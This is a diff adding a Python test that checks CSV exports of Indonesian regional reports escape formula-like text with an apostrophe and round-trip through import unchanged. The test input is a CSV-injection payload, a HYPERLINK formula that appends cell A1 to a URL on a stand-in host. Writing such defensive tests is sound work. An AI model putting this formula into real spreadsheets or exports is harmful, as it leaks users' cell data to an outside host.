@@ -151,3 +151,19 @@ def test_bad_cli_input_gives_one_line_and_a_non_zero_exit(args, cli_env):
     assert result.returncode != 0
     assert len(result.stderr.strip().splitlines()) == 1, result.stderr
     assert "Traceback" not in result.stderr
+
+
+def test_formula_like_text_is_exported_behind_an_apostrophe_and_read_back(make_report, jatim):
+    hostile = "=HYPERLINK(\"http://contoh.test/?\"&A1,\"Klik\")"
+    make_report("3571", "2025Q2", uraian_kendala=hostile, catatan="-kurang staf", berita_website=0)
+    exported = export_reports_csv(region=jatim, period_code="2025Q2")
+    row = next(csv.DictReader(io.StringIO(exported)))
+    assert row["uraian_kendala"] == "'" + hostile and row["catatan"] == "'-kurang staf"
+    assert row["berita_website"] == "0" and row["kode_satker"] == "3571"  # numbers and codes untouched
+    before = Submission.objects.get().value_map()
+    Submission.objects.all().delete()
+    parsed = parse_reports_csv(exported)
+    assert parsed.errors == []
+    reports_import(parsed, actor=None, source="ekspor.csv")
+    assert Submission.objects.get().value_map() == before
+    assert export_reports_csv(region=jatim, period_code="2025Q2") == exported
